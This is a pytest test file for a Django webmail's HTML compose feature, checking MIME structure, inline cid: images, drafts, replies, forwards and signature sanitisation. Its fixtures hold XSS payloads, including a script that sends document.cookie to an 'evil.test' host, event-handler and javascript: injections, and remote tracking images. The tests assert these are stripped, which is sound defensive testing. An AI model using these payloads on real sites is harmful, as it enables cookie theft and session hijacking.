"""Rich compose: HTML sent as multipart/alternative (a text part made from the HTML) with
multipart/related for inline images (cid: parts, never data: URLs), cleaned on the server by the
reading sanitiser: every hostile case of incoming mail (test_hostile, test_hostile_more), typed
or pasted into the editor, never reaches the recipient. Drafts keep the HTML and the images;
replies and forwards quote the HTML original; the HTML signature is sanitised."""

import base64
import email
import re

import pytest
from django.contrib.auth import get_user_model

from tests.webmail.test_compose import fetch, new_compose, wait_for
from tests.webmail.test_hostile import CORPUS, FORBIDDEN
from tests.webmail.test_hostile_more import HTML_CASES

# A 1x1 PNG
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)
PASTED = {
    # what a user can type or paste into the editor (DOMPurify runs in the browser, but a
    # crafted POST skips it: the server's cleaning is what counts)
    "pasted_script": '<div>hi</div><script>fetch("http://evil.test/"+document.cookie)</script>',
    "pasted_handlers": '<img src="x" onerror="alert(1)"><div onclick="alert(2)">x</div>',
    "pasted_data_image": '<img src="data:image/png;base64,' + base64.b64encode(PNG).decode() + '">',
    "pasted_remote_image": '<p>x</p><img src="https://evil.test/track.gif">',
    "pasted_javascript_link": '<a href="javascript:alert(1)">click</a>',
}


def _file(name, content, ctype="application/octet-stream"):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(name, content, content_type=ctype)


def html_of(raw: bytes) -> str:
    """Every HTML body in a MIME message (decoded)."""
    msg = email.message_from_bytes(raw) if isinstance(raw, bytes) else raw
    return "".join(
        p.get_payload(decode=True).decode(p.get_content_charset() or "utf-8")
        for p in msg.walk()
        if p.get_content_type() == "text/html"
    )


def hostile_html() -> dict[str, str]:
    cases = {}
    for name, raw in CORPUS.items():
        if raw is None:
            continue
        body = email.message_from_bytes(raw)
        if body.get_content_type() == "text/html":
            cases[f"incoming_{name}"] = body.get_payload(decode=True).decode("utf-8", "replace")
    cases.update({f"incoming_{k}": v for k, v in HTML_CASES.items()})
    cases.update(PASTED)
    return cases


HOSTILE = hostile_html()


def fields(to, html, subject="s", **extra):
    return {
        "to": to,
        "cc": "",
        "bcc": "",
        "subject": subject,
        "body": "",
        "html": html,
        "format": "html",
        **extra,
    }


def test_html_message_with_inline_image_and_attachment_is_sent_formatted(webmail_user):
    # given alice composing in the HTML editor: a pasted image (uploaded inline) and a file
    alice, bob = webmail_user(), webmail_user()
    url = new_compose(alice.client)
    inline = alice.client.post(
        url + "upload/",
        {"file": _file("shot.png", PNG, "image/png"), "inline": "1"},
        HTTP_ACCEPT="application/json",
    ).json()["attachments"][0]
    assert inline["url"].startswith("http://testserver/webmail/compose/") and inline["inline"] is True
    assert alice.client.get(inline["url"]).content == PNG  # the editor shows it from there
    alice.client.post(
        url + "upload/", {"file": _file("offer.pdf", b"%PDF-1.4 x")}, HTTP_ACCEPT="application/json"
    )
    html = (
        f"<div>Hello <b>Bob</b>, <i>see</i>:</div><ul><li>one</li><li>two</li></ul>"
        f'<blockquote><div>quoted</div></blockquote><div><img src="{inline["url"]}" alt="shot"></div>'
        '<div><a href="https://example.test/x">the offer</a></div>'
    )
    # when she sends it
    response = alice.client.post(url, fields(bob.address, html, subject="Formatted", action="send"))
    assert response.status_code == 302, response.content.decode()[:1000]
    # then bob receives text + HTML alternatives, the image as a cid: part, the file attached
    received = fetch(bob, "INBOX", wait_for(lambda: bob.uids("INBOX"))[0])
    assert received.get_content_type() == "multipart/mixed"
    alternative = received.get_payload()[0]
    assert alternative.get_content_type() == "multipart/alternative"
    plain, related = alternative.get_payload()
    assert plain.get_content_type() == "text/plain"
    text = plain.get_payload(decode=True).decode().replace("\r\n", "\n")
    assert "Hello Bob, see:" in text and "- one\n- two" in text and "> quoted" in text
    assert "the offer <https://example.test/x>" in text
    assert related.get_content_type() == "multipart/related"
    html_part, image = related.get_payload()
    sent_html = html_part.get_payload(decode=True).decode()
    assert "<b>Bob</b>" in sent_html and "<li>one</li>" in sent_html and "<blockquote>" in sent_html
    cid = image["Content-ID"].strip("<>")
    assert f'src="cid:{cid}"' in sent_html and "data:" not in sent_html and "/compose/" not in sent_html
    assert image.get_content_type() == "image/png" and image.get_payload(decode=True) == PNG
    names = [p.get_filename() for p in received.walk() if p.get_content_disposition() == "attachment"]
    assert names == ["offer.pdf"]
    # and his webmail shows it formatted, the image inline, only the PDF as an attachment
    uid = bob.uids("INBOX")[0]
    page = bob.client.get(f"/webmail/message/{uid}/", {"f": "INBOX"}).content.decode()
    frame = bob.client.get(f"/webmail/message/{uid}/body/", {"f": "INBOX"}).content.decode()
    assert "<b>Bob</b>" in frame and 'src="data:image/png;base64,' in frame
    assert "offer.pdf" in page and "shot.png" not in page
    # alice's Sent copy is the same message
    assert "<b>Bob</b>" in html_of(fetch(alice, "Sent", alice.uids("Sent")[0]))


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_html_typed_or_pasted_never_reaches_the_recipient(case, webmail_user):
    # given a hostile HTML body (every incoming-mail case, and pasted ones) posted as the editor's
    alice, bob = webmail_user(), webmail_user()
    url = new_compose(alice.client)
    saved = alice.client.post(url + "autosave/", fields(bob.address, HOSTILE[case]))
    sent = alice.client.post(url, fields(bob.address, HOSTILE[case] + "<p>end</p>", action="send"))
    # then the draft and the delivered message carry nothing executable or remote
    assert saved.status_code == 200 and sent.status_code == 302
    delivered = fetch(bob, "INBOX", wait_for(lambda: bob.uids("INBOX"))[0])
    draft_html = html_of(fetch(alice, "Sent", alice.uids("Sent")[0]))
    for html in (html_of(delivered), draft_html):
        assert "end" in html
        for pattern in FORBIDDEN:
            assert not pattern.search(html), (case, pattern.pattern, html[:600])
        assert "data:" not in html and "evil.test" not in html, (case, html[:600])
    text = next(p for p in delivered.walk() if p.get_content_type() == "text/plain")
    assert "<script" not in text.get_payload(decode=True).decode("utf-8", "replace").lower()


def test_the_compose_cleaning_is_the_reading_sanitiser():
    # the same allow-list: what compose keeps of a hostile case is what the reader keeps of it
    from portalkit import rendering
    from webmail import compose

    state = compose.ComposeState(cid="x")
    for case, html in HOSTILE.items():
        cleaned, used = compose.clean_html(state, html)
        read, _blocked = rendering.sanitize_html(
            html, cids={}, used_cids=set(), allow_remote=False, allow_data_images=False
        )
        assert cleaned == read or (cleaned == "" and not compose.html_to_plain(read).strip()), case
        assert used == frozenset()


def test_autosaved_html_draft_reopens_with_its_formatting_and_image(webmail_user):
    alice = webmail_user()
    url = new_compose(alice.client)
    inline = alice.client.post(
        url + "upload/",
        {"file": _file("p.png", PNG, "image/png"), "inline": "1"},
        HTTP_ACCEPT="application/json",
    ).json()["attachments"][0]
    html = f'<div><b>Draft</b> text</div><div><img src="{inline["url"]}"></div>'
    assert alice.client.post(url + "autosave/", fields("x@example.test", html)).status_code == 200
    # the draft in Drafts is HTML with its image as a cid: part
    draft = fetch(alice, "Drafts", alice.uids("Drafts")[0])
    assert f"cid:{inline['id']}@inline.mailsuite" in html_of(draft)
    # the same window, reloaded, shows the HTML with the image from its URL
    page = alice.client.get(url).content.decode()
    assert "&lt;b&gt;Draft&lt;/b&gt;" in page and inline["url"] in page
    # reopened from Drafts in a new window: the same HTML, the image served there too
    reopened = new_compose(alice.client, f="Drafts", draft=alice.uids("Drafts")[0])
    page = alice.client.get(reopened).content.decode()
    image_url = re.search(r"http://testserver/webmail/compose/[^/]+/inline/[0-9a-f]{16}/", page).group(0)
    assert "&lt;b&gt;Draft&lt;/b&gt;" in page and reopened in image_url
    assert alice.client.get(image_url).content == PNG
    assert "p.png" not in page.split("data-attachments")[1]  # not listed as an attachment


def test_reply_quotes_the_html_original_sanitised_with_its_inline_image(webmail_user):
    alice, bob = webmail_user(), webmail_user()
    png64 = base64.b64encode(PNG).decode()
    raw = (
        f"From: Bob <{bob.address}>\r\nTo: {alice.address}\r\nSubject: plan\r\nMessage-ID: <p1@x.test>\r\n"
        'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="R"\r\n\r\n--R\r\n'
        "Content-Type: text/html; charset=utf-8\r\n\r\n"
        '<p>The <b>plan</b></p><img src="cid:logo@x.test"><script>alert(1)</script>'
        '<img src="http://evil.test/t.gif">\r\n--R\r\nContent-Type: image/png\r\n'
        "Content-ID: <logo@x.test>\r\n"
        f"Content-Transfer-Encoding: base64\r\n\r\n{png64}\r\n--R--\r\n"
    ).encode()
    uid = alice.append(raw)
    url = new_compose(alice.client, f="INBOX", reply=uid)
    page = alice.client.get(url).content.decode()
    editor = re.search(r"<textarea name=\"html\" hidden data-html>(.*?)</textarea>", page, re.S).group(1)
    assert "&lt;blockquote&gt;" in editor and "&lt;b&gt;plan&lt;/b&gt;" in editor
    assert "script" not in editor and "evil.test" not in editor
    image_url = re.search(r"http://testserver/webmail/compose/[^/]+/inline/[0-9a-f]{16}/", editor).group(0)
    assert alice.client.get(image_url).content == PNG
    # sent as is: bob gets the quote with the image as a cid: part
    import html as html_lib

    sent = alice.client.post(
        url, fields(bob.address, "<div>OK</div>" + html_lib.unescape(editor), action="send")
    )
    assert sent.status_code == 302
    received = fetch(bob, "INBOX", wait_for(lambda: bob.uids("INBOX"))[0])
    body = html_of(received)
    assert (
        "<blockquote>" in body and "<b>plan</b>" in body and re.search(r'src="cid:[0-9a-f]{16}@inline', body)
    )
    assert [p.get_content_type() for p in received.walk()].count("image/png") == 1
    assert received["In-Reply-To"] == "<p1@x.test>"


def test_forward_of_a_plain_text_message_is_quoted_as_html_and_text(webmail_user):
    from tests.webmail.conftest import message

    alice = webmail_user()
    uid = alice.append(message(subject="news", body="line <one>\nline two"))
    page = alice.client.get(new_compose(alice.client, f="INBOX", forward=uid)).content.decode()
    assert "&lt;div&gt;line &amp;lt;one&amp;gt;&lt;/div&gt;" in page  # escaped text, as HTML
    body = re.search(r"<textarea id=\"body\"[^>]*>(.*?)</textarea>", page, re.S).group(1)
    assert "line &lt;one&gt;\nline two" in body.replace("\r\n", "\n"), body  # and the text fallback


def test_html_signature_is_sanitised_and_starts_new_messages(webmail_user):
    alice = webmail_user()
    response = alice.client.post(
        "/webmail/settings/",
        {
            "display_name": "Alice",
            "signature": "Alice R.",
            "signature_html": '<b>Alice</b> <a href="javascript:alert(1)">x</a><script>alert(2)</script>'
            '<img src="http://evil.test/logo.png">',
            "language": "it",
            "page_size": 50,
        },
    )
    assert response.status_code == 302
    prefs = get_user_model().objects.get(username=alice.address).webmail_preferences
    assert "<b>Alice</b>" in prefs.signature_html
    assert not any(p.search(prefs.signature_html) for p in FORBIDDEN) and "evil" not in prefs.signature_html
    page = alice.client.get(new_compose(alice.client)).content.decode()
    assert "&lt;b&gt;Alice&lt;/b&gt;" in page  # the editor starts with the HTML signature
    assert "-- \nAlice R." in page  # the text fallback with the text one


def test_plain_text_form_without_javascript_still_sends_plain_text(webmail_user):
    alice, bob = webmail_user(), webmail_user()
    url = new_compose(alice.client)
    data = {
        "to": bob.address,
        "cc": "",
        "bcc": "",
        "subject": "t",
        "body": "<b>not bold</b>",
        "action": "send",
    }
    data.update({"html": "<b>ignored</b>", "format": "text"})
    assert alice.client.post(url, data).status_code == 302
    received = fetch(bob, "INBOX", wait_for(lambda: bob.uids("INBOX"))[0])
    assert received.get_content_type() == "text/plain"
    assert received.get_payload(decode=True).decode().strip() == "<b>not bold</b>"


def test_inline_upload_refuses_what_is_not_an_image_and_other_windows_images(webmail_user):
    alice, mallory = webmail_user(), webmail_user()
    url = new_compose(alice.client)
    refused = alice.client.post(
        url + "upload/",
        {"file": _file("x.html", b"<script>", "text/html"), "inline": "1"},
        HTTP_ACCEPT="application/json",
    )
    assert refused.status_code == 413 and "error" in refused.json()
    inline = alice.client.post(
        url + "upload/",
        {"file": _file("p.png", PNG, "image/png"), "inline": "1"},
        HTTP_ACCEPT="application/json",
    ).json()["attachments"][0]
    assert mallory.client.get(inline["url"]).status_code == 404
    other = new_compose(alice.client)
    assert (
        alice.client.get(
            inline["url"].replace(url.rstrip("/").rsplit("/", 1)[1], other.rstrip("/").rsplit("/", 1)[1])
        ).status_code
        == 404
    )
